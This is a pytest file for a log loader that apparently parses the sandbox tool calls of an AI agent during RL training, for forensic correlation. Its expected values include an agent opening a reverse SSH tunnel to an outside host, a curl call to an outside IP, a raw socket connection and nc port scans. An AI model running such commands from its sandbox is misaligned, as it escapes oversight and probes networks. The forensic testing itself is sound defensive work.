"""generic loader: default same-named columns, a mapping file with nested paths and call lists,
inline mappings, option errors, exact reject accounting, strict mode, gzip and the sniff rules."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from loader_helpers import ns, rows

from correlate.errors import FormatMismatch, OptionError, StrictRejection
from correlate.loaders import REGISTRY, LoadOptions, LoadResult, detect
from correlate.pipeline import RunOptions, load_inputs
from correlate.sources import Source

TESTS = Path(__file__).resolve().parent
DATA = TESTS / "data" / "generic"
EXTRA = TESTS / "data" / "generic_extra"
CALLS_JSONL = DATA / "sandbox_tool_calls.calls.jsonl"
CALLS_CSV = DATA / "sandbox_tool_calls.calls.csv"
MALFORMED = DATA / "malformed.calls.jsonl"
ROLL = EXTRA / "roll_like_trajectories.jsonl"
ROLL_MAPPING = EXTRA / "roll_like_mapping.json"
loader = REGISTRY["generic"]


def display(path: Path) -> str:
    try:
        return str(path.relative_to(TESTS.parent))
    except ValueError:
        return path.name


def options(**generic: str) -> LoadOptions:
    return LoadOptions(format_options={"generic": generic})


def load(path: Path, opts: LoadOptions | None = None, forced: bool = False) -> LoadResult:
    source = Source(path, display(path))
    detection = detect(source, forced="generic" if forced else None)
    assert detection.name == "generic"
    return detection.loader.read(source, opts or LoadOptions())


def by_call(result: LoadResult) -> dict[str, dict[str, Any]]:
    return {row["call_id"]: row for row in rows(result.table)}


def assert_balanced(result: LoadResult) -> None:
    stats = result.stats
    assert stats.read == stats.loaded + stats.rejected + sum(stats.skipped.values())
    assert stats.loaded == result.table.num_rows
    assert stats.rejected == len(result.rejects)


def reject_map(result: LoadResult) -> dict[int, str]:
    got = {r.location.line: r.reason for r in result.rejects}
    assert len(got) == len(result.rejects)  # one per line
    return got


# --- default mapping: same-named columns ---------------------------------------------------------


def test_default_columns_jsonl_row_is_exact():
    row = by_call(load(CALLS_JSONL))["c-001"]
    assert row == {
        "call_id": "c-001",
        "run_id": "rome-rl-0423",
        "episode_id": "ep-0017",
        "step": 3,
        "ts_start": ns("2025-12-02T06:11:15Z"),
        "ts_end": ns("2025-12-02T06:11:20.5Z"),
        "ts_kind": "exact",
        "tool": "bash",
        "command": "ssh -fN -R 2222:localhost:22 tunnel@203.0.113.7",
        "arguments": None,
        "output": None,  # "" is no output
        "exit_code": 255,
        "is_error": True,  # from the exit code
        "host": "sbx-03",
        "host_ip": "192.168.10.13",
        "model": "qwen3-coder-plus",
        "train_step": 42,
        "ts_note": None,
        "source_format": "generic",
        "source_path": "tests/data/generic/sandbox_tool_calls.calls.jsonl",
        "source_line": 1,
    }


def test_default_columns_epoch_units_argv_and_arguments():
    result = load(CALLS_JSONL)
    calls = by_call(result)
    seconds = calls["c-002"]
    assert (seconds["ts_start"], seconds["ts_end"]) == (
        1_764_656_000_000_000_000,
        1_764_656_002_250_000_000,
    )
    assert seconds["command"] == "curl -s http://141.94.96.144:3333/"  # ["bash", "-lc", ...]
    assert seconds["ts_note"] is None
    millis = calls["c-003"]
    assert millis["ts_start"] == 1_764_656_010_500_000_000
    assert millis["ts_note"] == "epoch unit ms by magnitude (format documents s)"
    assert millis["command"] == "import socket; socket.create_connection(('203.0.113.7', 22))"
    assert (millis["is_error"], millis["host"], millis["host_ip"]) == (True, "sbx-03", None)
    naive = calls["c-004"]
    assert (naive["ts_start"], naive["ts_end"]) == (
        ns("2025-12-02T14:20:00Z"),
        ns("2025-12-02T14:20:01Z"),
    )
    assert naive["ts_note"] == "no zone: assumed UTC"
    assert naive["command"] == "nc -zv 100.100.100.200 80"
    assert naive["arguments"] == '{"cmd": "nc -zv 100.100.100.200 80"}'
    assert rows(result.hosts) == [
        {
            "host": "sbx-03",
            "ip": "192.168.10.13",
            "valid_from": ns("2025-12-02T06:11:15Z"),
            "valid_to": None,
            "kind": None,
            "origin": "trajectory",
            "note": "first seen in a tool call's host_ip",
            "source_format": "generic",
            "source_path": "tests/data/generic/sandbox_tool_calls.calls.jsonl",
            "source_line": 1,
        },
        {
            "host": "sbx-04",
            "ip": "192.168.10.14",
            "valid_from": ns("2025-12-02T14:20:00Z"),
            "valid_to": None,
            "kind": None,
            "origin": "trajectory",
            "note": "first seen in a tool call's host_ip",
            "source_format": "generic",
            "source_path": "tests/data/generic/sandbox_tool_calls.calls.jsonl",
            "source_line": 4,
        },
    ]
    assert_balanced(result)


def test_zone_option_and_epoch_unit_option_apply():
    result = load(
        CALLS_JSONL, LoadOptions(zones={"generic": ZoneInfo("Asia/Shanghai")}, epoch_unit="s")
    )
    calls = by_call(result)
    assert calls["c-004"]["ts_start"] == ns("2025-12-02T06:20:00Z")
    assert calls["c-004"]["ts_note"] == "no zone: assumed Asia/Shanghai"
    # --epoch-unit s is taken at its word: 13 digits of seconds is past the year 2262.
    assert "c-003" not in calls
    assert reject_map(result) == {3: "ts_start: time out of range: 1764656010500"}
    millis = by_call(load(CALLS_JSONL, LoadOptions(epoch_unit="ms")))["c-003"]
    assert (millis["ts_start"], millis["ts_note"]) == (1_764_656_010_500_000_000, None)


def test_default_columns_csv_with_quoted_newline_ragged_row_and_bad_ip():
    result = load(CALLS_CSV)
    assert reject_map(result) == {
        6: "5 columns where the header has 14",
        7: "host_ip is not an IP address: '192.168.10.300'",
    }
    assert result.rejects[0].raw == "c-103,rome-rl-0423,ep-0020,3,2025-12-02T06:37:09Z"
    calls = by_call(result)
    assert sorted(calls) == ["c-101", "c-102", "c-105"]
    assert calls["c-102"]["command"] == "for p in 22 80 443; do\n  nc -zv 192.168.10.1 $p\ndone"
    assert (calls["c-102"]["source_line"], calls["c-105"]["source_line"]) == (3, 9)
    assert (calls["c-101"]["exit_code"], calls["c-101"]["is_error"]) == (7, True)  # "" -> from exit
    assert (calls["c-105"]["is_error"], calls["c-105"]["ts_end"]) == (
        False,
        ns("2025-12-02T06:37:12.5Z"),
    )
    assert result.stats.skipped == {"CSV header": 1, "blank line": 1}
    assert [(h["host"], h["ip"]) for h in rows(result.hosts)] == [("sbx-22", "192.168.10.22")]
    assert_balanced(result)


def test_malformed_rejects_exactly_the_bad_lines():
    result = load(MALFORMED)
    got = reject_map(result)
    expected = {
        2: "ts_start is missing",
        3: "ts_start: not an ISO 8601 time: 'around noon'",
        5: "step is not an integer: 'abc'",
        6: "exit_code is not an integer: 1.5",
        7: "is_error is not a boolean: 'maybe'",
        8: "host_ip is not an IP address: 'sbx-09.internal'",
        9: "not valid JSON",
        10: "not a JSON object but a JSON list",
        12: "ts_start is not a time: True",
        13: "ts_end is not a time: {'at': 1}",
    }
    assert sorted(got) == sorted(expected)
    for line, fragment in expected.items():
        assert fragment in got[line], (line, got[line])
    reversed_end = by_call(result)["m-04"]
    assert (reversed_end["ts_end"], reversed_end["ts_note"]) == (
        None,
        "ts_end before ts_start: end ignored",
    )
    assert result.stats.skipped == {"blank line": 1}
    assert_balanced(result)


def test_strict_stops_at_the_first_rejected_line():
    with pytest.raises(StrictRejection, match=r"^tests/data/generic/malformed\.calls\.jsonl:2: "):
        load(MALFORMED, LoadOptions(strict=True))


# --- a mapping file: nested paths, a list of calls per line, zone and unit --------------------------


def test_roll_like_dump_through_a_mapping_file():
    result = load(ROLL, options(mapping=str(ROLL_MAPPING)), forced=True)
    assert result.context == [str(ROLL_MAPPING.resolve())]
    calls = by_call(result)
    tunnel = calls["tc-1"]
    assert {
        k: tunnel[k]
        for k in ("episode_id", "step", "train_step", "tool", "command", "host", "host_ip")
    } == {
        "episode_id": "tb_3_7_0_12_88_20251202_141100_000001",
        "step": 1,
        "train_step": 12,  # from the line, not the call
        "tool": "bash",
        "command": "ssh -fN -R 2222:localhost:22 tunnel@203.0.113.7",
        "host": "sandbox-8f3a1c2e",
        "host_ip": "192.168.10.13",
    }
    assert (tunnel["ts_start"], tunnel["ts_end"], tunnel["ts_note"]) == (
        ns("2025-12-02T06:11:15Z"),
        ns("2025-12-02T06:11:17.5Z"),
        None,  # epoch_unit ms in the mapping: no magnitude note
    )
    assert (tunnel["exit_code"], tunnel["is_error"], tunnel["source_line"]) == (255, True, 1)
    shanghai = calls["tc-3"]
    assert shanghai["ts_start"] == ns("2025-12-02T06:19:40Z")  # naive, read in Asia/Shanghai
    assert shanghai["ts_note"] == "no zone: assumed Asia/Shanghai"
    assert reject_map(result) == {
        3: "no list of calls at 'tool_calls'",
        4: "call entry is not an object but str",
    }
    assert result.stats.skipped == {"no calls in 'tool_calls'": 1}
    assert (result.stats.read, result.stats.unit) == (6, "records")
    assert [(h["host"], h["ip"], h["source_line"]) for h in rows(result.hosts)] == [
        ("sandbox-8f3a1c2e", "192.168.10.13", 1),
        ("sandbox-1b2c3d4e", "192.168.10.17", 4),
    ]
    assert_balanced(result)


def test_tz_option_for_generic_beats_the_mappings_time_zone():
    opts = LoadOptions(
        zones={"generic": ZoneInfo("UTC"), "*": ZoneInfo("Europe/Rome")},
        format_options={"generic": {"mapping": str(ROLL_MAPPING)}},
    )
    assert by_call(load(ROLL, opts, forced=True))["tc-3"]["ts_start"] == ns("2025-12-02T14:19:40Z")
    star_only = LoadOptions(
        zones={"*": ZoneInfo("Europe/Rome")},
        format_options={"generic": {"mapping": str(ROLL_MAPPING)}},
    )
    assert by_call(load(ROLL, star_only, forced=True))["tc-3"]["ts_start"] == ns(
        "2025-12-02T06:19:40Z"
    )


def test_inline_columns_duration_and_settings(tmp_path):
    path = tmp_path / "steps.jsonl"
    path.write_text(
        json.dumps(
            {
                "t0": "2025-12-02T06:00:00Z",
                "secs": 2.5,
                "act": {"argv": ["sh", "-c", "id"]},
                "ok": "no",
            }
        )
        + "\n"
    )
    result = load(
        path,
        options(
            mapping='{"ts_kind": "bracket", "duration_unit": "s"}',
            columns="ts_start=t0,duration=secs,command=act.argv,is_error=ok",
        ),
        forced=True,
    )
    [row] = rows(result.table)
    assert (row["ts_start"], row["ts_end"], row["ts_kind"]) == (
        ns("2025-12-02T06:00:00Z"),
        ns("2025-12-02T06:00:02.5Z"),
        "bracket",
    )
    assert (row["command"], row["is_error"], row["tool"]) == ("id", False, None)  # tool not mapped
    assert result.context == []


@pytest.mark.parametrize(
    ("generic", "message"),
    [
        ({"columns": "start=t0"}, "unknown key(s) start"),
        ({"columns": "ts_start"}, "expected TARGET=FIELD pairs"),
        ({"columns": "command=cmd"}, "name the field that holds ts_start"),
        ({"mapping": "{not json"}, "not valid JSON"),
        ({"mapping": '["ts_start"]'}, "expected a JSON object of column: field"),
        ({"mapping": '{"ts_start": 5}'}, "ts_start must be a non-empty string"),
        ({"mapping": '{"ts_start": "t", "epoch_unit": "minutes"}'}, "epoch_unit must be one of"),
        ({"mapping": '{"ts_start": "t", "ts_kind": "precise"}'}, "ts_kind must be one of"),
        ({"mapping": '{"ts_start": "t", "duration_unit": "h"}'}, "duration_unit must be one of"),
        ({"mapping": '{"ts_start": "t", "time_zone": "Mars/Olympus"}'}, "unknown time zone"),
        ({"mapping": "/nonexistent/mapping.json"}, "cannot read /nonexistent/mapping.json"),
    ],
)
def test_bad_mappings_are_option_errors(generic, message):
    with pytest.raises(OptionError, match=re.escape(message)):
        load(CALLS_JSONL, options(**generic))


def test_mapping_file_beside_the_data_is_reported_as_read_context():
    run = RunOptions(
        formats=(("*.jsonl", "generic"),),
        load=LoadOptions(format_options={"generic": {"mapping": str(ROLL_MAPPING)}}),
    )
    loaded = load_inputs([str(EXTRA)], run)
    assert loaded.calls.num_rows == 3
    assert loaded.hosts.num_rows == 2
    reasons = {Path(f.path).name: f.skipped_reason for f in loaded.inputs}
    assert reasons["roll_like_mapping.json"].startswith("read as context by ")


# --- sniffing -----------------------------------------------------------------------------------


def test_sniff_scores_by_name_and_shape():
    head = CALLS_JSONL.read_bytes()
    assert loader.sniff(head, "sandbox_tool_calls.calls.jsonl") == 0.6
    assert loader.sniff(head, "sandbox_tool_calls.jsonl") == 0.3  # forceable, never chosen
    assert loader.sniff(CALLS_CSV.read_bytes(), "x.calls.csv") == 0.6
    assert loader.sniff(b'[{"ts_start": 1}]', "dump.json") == 0.3


@pytest.mark.parametrize(
    "head",
    [
        b"# a markdown title, with a comma\n",
        b"not,a valid;;header!,x\n",
        b'{\n  "pretty": true\n}\n',
        b"\x00\x01\x02binary",
        b"just one column\n",
    ],
    ids=["markdown", "punctuation", "pretty_json", "binary", "one_column"],
)
def test_sniff_is_zero_for_text_that_is_not_json_lines_or_csv(head):
    assert loader.sniff(head, "x.calls.jsonl") == 0.0


def test_sniff_is_zero_for_formats_other_loaders_recognise():
    claude = TESTS / "data" / "claude_code" / "malformed.jsonl"
    assert loader.sniff(claude.read_bytes(), "session.calls.jsonl") == 0.0
    with pytest.raises(FormatMismatch, match="does not look like generic"):
        detect(Source(claude, display(claude)), forced="generic")


def test_an_inventory_guess_does_not_stop_a_forced_generic_read_but_a_sure_inventory_does(tmp_path):
    roll = Source(ROLL, display(ROLL))
    assert (
        REGISTRY["inventory"].sniff(roll.head(), roll.name) == 0.0
    )  # nested sandbox_ip is no inventory
    assert detect(roll, forced="generic").score == 0.3
    inventory = tmp_path / "inventory.csv"
    inventory.write_text("host,ip,valid_from\nsbx-03,192.168.10.13,2025-12-02T05:55:00Z\n")
    with pytest.raises(FormatMismatch):
        detect(Source(inventory, "inventory.csv"), forced="generic")
